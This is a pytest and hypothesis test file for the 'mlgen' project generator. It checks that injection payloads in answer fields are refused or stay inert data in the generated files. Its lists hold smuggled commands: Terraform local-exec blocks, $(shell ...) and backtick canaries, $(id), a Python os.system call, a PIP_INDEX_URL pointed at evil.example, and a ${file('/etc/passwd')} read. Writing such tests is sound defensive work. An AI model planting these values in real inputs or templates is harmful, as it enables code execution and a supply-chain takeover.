"""Hostile answer values stay data in every generated file.

Control characters, quotes, backslashes, ``${}``/``%{}``/``{{}}``, ``$(…)``, newlines, non-BMP
characters and over-long values are pushed through every string answer. A value is either refused
with its field's path (exit 2 material), or the project renders and every file still parses in its
own language (terraform fmt on the HCL, YAML, TOML, Python ``ast``, ``make -n``, a Dockerfile
parser) with the same structure as a render of a harmless value: no extra resources, attributes,
Makefile targets, Dockerfile instructions, workflow keys or lines — and a canary command planted in
the value never runs.
"""

from __future__ import annotations

import ast
import os
import re
import shutil
import subprocess
import tomllib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import HealthCheck, Phase, event, example, given, settings
from hypothesis import strategies as st

from mlgen import escape
from mlgen.answers import Answers, AnswersError, answers_to_data, build_answers, deep_merge
from mlgen.api import plan
from mlgen.render import copier_data, render
from mlgen.terraform import Terraform

REPO = Path(__file__).resolve().parents[2]
CANARY = "MLGEN_CANARY_RAN"
# Two contexts cover every template file: SageMaker with batch scoring and GitHub OIDC (launch/,
# batch_sagemaker.py, the github-vars target), and EKS (k8s/ manifests).
CONTEXTS = {
    "sagemaker-batch": REPO / "examples" / "eu-fintech-batch" / "answers.yml",
    "eks": REPO / "examples" / "enterprise-llm-eks" / "answers.yml",
}
# Fields whose values are free text (or free-ish, like e-mails): compared line by line with a
# render of a harmless value. The other string fields are identifiers that also name paths.
FREE_TEXT = {"project.name", "project.owner", "project.cost_center", "budget.alert_emails[0]"}
STRING_FIELDS = [
    "project.name",
    "project.owner",
    "project.cost_center",
    "project.slug",
    "project.github_repository",
    "cloud.region",
    "cloud.dr_region",
    "cloud.environments[0]",
    "compliance.data_residency[0]",
    "budget.alert_emails[0]",
]

PIECES = [
    "\n",
    "\r\n",
    "\t",
    "\x00",
    "\x08",
    "\x0c",
    "\x1b[31m",
    "\x7f",
    "\x85",
    "\u2028",
    "\u202e",
    "\ufeff",
    "\udc80",
    '"',
    "'",
    "\\",
    "\\n",
    "${path.module}",
    "$${x}",
    "%{ if true }x%{ endif }",
    "{{ 7 * 7 }}",
    "{% raw %}",
    "${{ secrets.AWS_KEY }}",
    f"$(shell touch {CANARY})",
    f"`touch {CANARY}`",
    "$(id)",
    "#",
    ": ",
    "- ",
    "&a *a",
    "!!python/object:os.system",
    "<script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "*_|~",
    "🚀",
    "👨\u200d👩\u200d👧",
    "\U0001d518\U0001d52b\U0001d526",
    "@example.com",
]
# Pieces a free-text answer may hold: the property test must render many values, not only refuse them.
ALLOWED_PIECES = [p for p in PIECES if all(escape.is_text_char(ch) for ch in p)]
allowed_text = st.lists(
    st.one_of(
        st.sampled_from(ALLOWED_PIECES),
        st.text(alphabet=st.characters(categories=["L", "M", "N", "P", "S", "Zs"]), min_size=1, max_size=6),
    ),
    min_size=1,
    max_size=6,
).map(lambda parts: "".join(parts)[:80])
hostile = st.one_of(
    allowed_text,
    allowed_text,
    st.lists(st.one_of(st.sampled_from(PIECES), st.text(min_size=1, max_size=4)), min_size=1, max_size=8).map("".join),
    st.text(max_size=90),
    st.sampled_from(PIECES).map(lambda p: "A" * 78 + p),
    st.integers(81, 400).map(lambda n: "x" * n),
)
hostile_email = st.one_of(
    hostile,
    hostile.map(lambda s: s + "@example.com"),
    hostile.map(lambda s: "ops@" + s),
    st.from_regex(r"\A[a-z0-9.!#$%&'*+/=?^_`{|}~-]{1,20}@example\.com\Z"),
)

# The attacks from issue #10, and the values next to them that must be accepted and stay data.
TF_RESOURCE = (
    f'x\nresource "terraform_data" "pwn" {{\n  provisioner "local-exec" {{\n    command = "touch {CANARY}"\n  }}\n}}\n#'
)
ATTACKS: list[tuple[str, str]] = [
    ("project.name", TF_RESOURCE),
    ("project.name", f"x\n$(shell touch {CANARY})\n"),
    ("project.name", "x\nenv:\n  PIP_INDEX_URL: https://evil.example/simple\n#"),
    ("project.name", 'Acme "Q" \\ \x00 NUL'),
    ("project.name", "Trojan \u202e source"),
    ("project.name", "line\u2028separator"),
    ("project.name", "A" * 81),
    ("project.owner", '"a"+__import__("os").system("touch ' + CANARY + '")+"@x.com"'),
    ("project.owner", "ops\x08@example.com"),
    ("budget.alert_emails[0]", "fin\x0c@example.com"),
    ("budget.alert_emails[0]", "Fin Ops <fin@example.com>"),
    ("project.cost_center", "CC-1$(id)"),
    ("project.slug", "a\nb"),
    ("cloud.environments[0]", "dev\n"),
    ("project.github_repository", "acme/x --body $(id)"),
]
ACCEPTED: list[tuple[str, str]] = [
    ("project.name", f'Acme "Q" \\ tail\\ $(shell touch {CANARY}) `touch {CANARY}`'),
    ("project.name", '${file("/etc/passwd")} %{ for x in [1] }x%{ endfor } {{ 7*7 }} ${{ secrets.X }}'),
    ("project.name", "🚀 Rocket 👨\u200d👩\u200d👧 Team \U0001d518\U0001d52b\U0001d526"),
    ("project.name", "<b>bold</b> [l](javascript:x) *_|~ # : - &amp; Team\\"),
    ("project.name", "Acme #1 Fraud"),
    ("project.cost_center", "CC-1/=+@:."),
    ("project.owner", "o'brien+ml@example.com"),
]


def _set_path(data: dict[str, Any], path: str, value: Any) -> dict[str, Any]:
    """Set ``a.b[0]``-style paths in a copy of ``data``."""
    out = deep_merge(data, {})
    parts = path.split(".")
    node = out
    for part in parts[:-1]:
        node[part] = dict(node.get(part) or {})
        node = node[part]
    last = parts[-1]
    if last.endswith("[0]"):
        name = last[:-3]
        items = list(node.get(name) or [])
        node[name] = [value, *items[1:]] if items else [value]
    else:
        node[last] = value
    return out


def _render(answers: Answers, dest: Path) -> Path:
    bp = plan(answers)
    render(dest, copier_data(answers_to_data(answers), bp.model_dump(mode="json")))
    return dest


def _files(root: Path) -> dict[str, Path]:
    return {p.relative_to(root).as_posix(): p for p in sorted(root.rglob("*")) if p.is_file() and ".git" not in p.parts}


def _skeleton(value: Any) -> Any:
    """Structure of parsed data: keys and list lengths kept, scalars replaced by their type."""
    if isinstance(value, dict):
        return {str(k): _skeleton(v) for k, v in value.items()}
    if isinstance(value, list):
        return [_skeleton(v) for v in value]
    return type(value).__name__


class _BlankStrings(ast.NodeTransformer):
    def visit_Constant(self, node: ast.Constant) -> ast.AST:
        return ast.Constant(value="") if isinstance(node.value, str) else node


def _python_skeleton(text: str) -> str:
    return ast.dump(_BlankStrings().visit(ast.parse(text)))


_HCL_NAME = re.compile(r'^\s*([A-Za-z_][\w-]*|"[^"]*")\s*(=|\{|"|$)')


def _hcl_names(text: str) -> list[str]:
    """Block types and attribute names, line by line (what a value could add to the HCL)."""
    return [m.group(1) for line in text.splitlines() if (m := _HCL_NAME.match(line))]


def _docker_instructions(path: Path) -> list[tuple[str, str]]:
    from dockerfile_parse import DockerfileParser

    with path.open("rb") as fh:
        parser = DockerfileParser(fileobj=fh)
        return [(i["instruction"], i["value"] if i["instruction"] != "COMMENT" else "") for i in parser.structure]


def _language(rel: str) -> str:
    name = rel.rsplit("/", 1)[-1]
    if rel.endswith((".tf", ".tfvars", ".hcl")):
        return "hcl"
    if rel.endswith((".yml", ".yaml")):
        return "yaml"
    if rel.endswith(".toml"):
        return "toml"
    if rel.endswith(".py"):
        return "python"
    if name == "Makefile":
        return "make"
    if name.startswith("Dockerfile"):
        return "docker"
    if rel.endswith(".md"):
        return "markdown"
    return "other"


def check_parses(root: Path, tf: Terraform) -> None:
    """Every generated file parses in its own language; no planted command runs."""
    fmt = tf.run(root / "infra", "fmt", "-check", "-recursive", "-list=true", "-no-color")
    assert fmt.returncode == 0, f"terraform fmt -check failed:\n{fmt.stdout}{fmt.stderr}"
    for rel, path in _files(root).items():
        lang = _language(rel)
        text = path.read_text(encoding="utf-8")
        if lang == "yaml":
            list(yaml.safe_load_all(text))
        elif lang == "toml":
            tomllib.loads(text)
        elif lang == "python":
            ast.parse(text, filename=rel)
        elif lang == "docker":
            instructions = {i for i, _ in _docker_instructions(path)}
            assert instructions <= {"COMMENT", "ARG", "FROM", "ENV", "WORKDIR", "COPY", "RUN", "USER", "EXPOSE"} | {
                "ENTRYPOINT",
                "CMD",
                "LABEL",
                "HEALTHCHECK",
                "SHELL",  # the devcontainer's Dockerfile sets pipefail
            }, f"{rel}: unexpected instructions {instructions}"
    env = {k: v for k, v in os.environ.items() if not k.startswith("MAKE")}
    make = subprocess.run(["make", "-n", "help"], cwd=root, env=env, capture_output=True, text=True, timeout=60)
    assert make.returncode == 0, f"make -n help failed:\n{make.stderr}"
    assert not list(root.rglob(CANARY)) and not (Path.cwd() / CANARY).exists(), "a planted command ran"


def check_same_structure(root: Path, baseline: Path) -> None:
    """Compared with a render of a harmless value, the hostile value changed data only."""
    files, base = _files(root), _files(baseline)
    assert files.keys() == base.keys(), f"files differ: {sorted(files.keys() ^ base.keys())}"
    for rel, path in files.items():
        text, base_text = path.read_text(encoding="utf-8"), base[rel].read_text(encoding="utf-8")
        lines, base_lines = text.splitlines(), base_text.splitlines()
        if rel == ".copier-answers.yml":  # written by a YAML dumper, which folds long strings
            assert yaml.safe_load(text).keys() == yaml.safe_load(base_text).keys()
            continue
        assert len(lines) == len(base_lines), f"{rel}: {len(lines)} lines instead of {len(base_lines)}"
        for line, base_line in zip(lines, base_lines, strict=True):
            if base_line.lstrip().startswith("#") and line != base_line:
                assert line.lstrip().startswith("#"), f"{rel}: a comment line became code: {line!r}"
        lang = _language(rel)
        if lang == "hcl":
            assert _hcl_names(text) == _hcl_names(base_text), f"{rel}: blocks or attributes changed"
        elif lang == "yaml":
            assert _skeleton(list(yaml.safe_load_all(text))) == _skeleton(list(yaml.safe_load_all(base_text))), rel
        elif lang == "toml":
            assert _skeleton(tomllib.loads(text)) == _skeleton(tomllib.loads(base_text)), rel
        elif lang == "python":
            assert _python_skeleton(text) == _python_skeleton(base_text), f"{rel}: code changed"
        elif lang == "make":
            code = [line for line in lines if not line.lstrip().startswith("#")]
            assert code == [line for line in base_lines if not line.lstrip().startswith("#")], f"{rel}: code changed"
        elif lang == "docker":
            assert _docker_instructions(path) == _docker_instructions(base[rel]), f"{rel}: instructions changed"
        elif lang == "markdown":
            tags = re.compile(r"<[A-Za-z/!?]")
            assert len(tags.findall(text)) == len(tags.findall(base_text)), f"{rel}: HTML tags appeared"


def check_value_is_data(root: Path, field: str, answers: Answers) -> None:
    """The value is found, exactly, as a string in the files that carry it as data."""
    recorded = yaml.safe_load((root / ".copier-answers.yml").read_text(encoding="utf-8"))["mlgen_answers"]
    assert recorded == answers_to_data(answers)
    pyproject = tomllib.loads((root / "pyproject.toml").read_text(encoding="utf-8"))["project"]
    if field == "project.name":
        assert pyproject["description"].startswith(answers.project.name + ": ")
        init = root / "src" / answers.project.package / "__init__.py"
        doc = ast.get_docstring(ast.parse(init.read_text(encoding="utf-8"))) or ""
        assert doc.startswith(answers.project.name + ": ")
    if field == "project.owner":
        assert pyproject["authors"] == [{"email": answers.project.owner}]
        for launch in (root / "launch" / "train_sagemaker.py", root / "launch" / "batch_sagemaker.py"):
            if launch.exists():  # SageMaker projects
                tree = ast.parse(launch.read_text(encoding="utf-8"))
                assert answers.project.owner in {n.value for n in ast.walk(tree) if isinstance(n, ast.Constant)}


@pytest.fixture(scope="module")
def tf(terraform_env: dict[str, str]) -> Terraform:
    return Terraform(env=terraform_env)


@pytest.fixture(scope="module")
def workdir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("hostile")


@pytest.fixture(scope="module", autouse=True)
def _template_once() -> Iterator[None]:
    """Stage the template repository once: every render of this module uses the same one."""
    import mlgen.render

    staged = mlgen.render.template_source()
    with pytest.MonkeyPatch.context() as mp:
        mp.setattr(mlgen.render, "template_source", lambda version=None: staged)
        yield


@pytest.fixture(scope="module")
def contexts() -> dict[str, dict[str, Any]]:
    return {name: yaml.safe_load(path.read_text(encoding="utf-8")) for name, path in CONTEXTS.items()}


@pytest.fixture(scope="module")
def baselines(workdir: Path, contexts: dict[str, dict[str, Any]]) -> dict[str, Path]:
    return {name: _render(build_answers(data), workdir / f"base-{name}") for name, data in contexts.items()}


@pytest.fixture(autouse=True)
def _in_workdir(workdir: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    monkeypatch.chdir(workdir)  # a canary written relative to the cwd lands here
    yield


_counter = iter(range(10**9))


def _try(
    field: str, value: str, context: str, contexts: dict[str, dict[str, Any]], baselines: dict[str, Path], **kw: Any
) -> Answers | None:
    """Refused with the field's path, or rendered and checked; returns the answers when accepted."""
    data = _set_path(contexts[context], field, value)
    try:
        answers = build_answers(data)
    except AnswersError as exc:
        first = field.replace("[0]", "")
        assert any(line.startswith(first) for line in exc.details), exc.details
        assert all(len(line) < 600 for line in exc.details), "error lines must stay short"
        return None
    dest = kw["workdir"] / f"r{next(_counter)}"
    _render(answers, dest)
    try:
        check_parses(dest, kw["tf"])
        if field in FREE_TEXT:
            check_same_structure(dest, baselines[context])
            check_value_is_data(dest, field, answers)
    finally:
        shutil.rmtree(dest, ignore_errors=True)
    return answers


@pytest.mark.terraform
@settings(
    max_examples=25,
    derandomize=True,
    deadline=None,
    phases=[Phase.explicit, Phase.generate],  # each example renders a project: no shrinking runs
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(
    field=st.one_of(st.sampled_from(sorted(FREE_TEXT)), st.sampled_from(STRING_FIELDS)),
    text=hostile,
    email=hostile_email,
    context=st.sampled_from(sorted(CONTEXTS)),
)
@example(field="project.name", text=TF_RESOURCE, email="", context="sagemaker-batch")
@example(field="project.name", text=ACCEPTED[0][1], email="", context="eks")
def test_hostile_values_stay_data(
    field: str,
    text: str,
    email: str,
    context: str,
    contexts: dict[str, dict[str, Any]],
    baselines: dict[str, Path],
    workdir: Path,
    tf: Terraform,
) -> None:
    value = email if field in ("project.owner", "budget.alert_emails[0]") else text
    accepted = _try(field, value, context, contexts, baselines, workdir=workdir, tf=tf)
    event("rendered" if accepted else "refused")


@pytest.mark.terraform
@pytest.mark.parametrize(("field", "value"), ATTACKS, ids=[f"{f}-{i}" for i, (f, _) in enumerate(ATTACKS)])
def test_issue_attacks_are_refused_naming_the_field(
    field: str,
    value: str,
    contexts: dict[str, dict[str, Any]],
    baselines: dict[str, Path],
    workdir: Path,
    tf: Terraform,
) -> None:
    assert _try(field, value, "sagemaker-batch", contexts, baselines, workdir=workdir, tf=tf) is None


@pytest.mark.terraform
@pytest.mark.parametrize(("field", "value"), ACCEPTED, ids=[f"{f}-{i}" for i, (f, _) in enumerate(ACCEPTED)])
def test_awkward_values_are_accepted_and_stay_data(
    field: str,
    value: str,
    contexts: dict[str, dict[str, Any]],
    baselines: dict[str, Path],
    workdir: Path,
    tf: Terraform,
) -> None:
    answers = _try(field, value, "sagemaker-batch", contexts, baselines, workdir=workdir, tf=tf)
    assert answers is not None, f"{field}={value!r} should be accepted"


@pytest.mark.terraform
def test_nastiest_accepted_name_validates(contexts: dict[str, dict[str, Any]], workdir: Path, tf: Terraform) -> None:
    """The env root rendered with every awkward character we accept passes terraform validate."""
    name = ACCEPTED[0][1][:40] + " ${x} %{y} 🚀"
    data = _set_path(_set_path(contexts["sagemaker-batch"], "project.name", name), "project.owner", ACCEPTED[-1][1])
    answers = build_answers(data)
    root = _render(answers, workdir / "nasty")
    env = root / "infra" / "envs" / answers.cloud.environments[0]
    result = tf.check_root(env)
    tf.cleanup(env)
    assert result.fmt_ok, result.fmt_files
    assert result.init_ok, result.init_output
    assert not result.errors, [str(d) for d in result.errors]
    assert not (workdir / CANARY).exists()
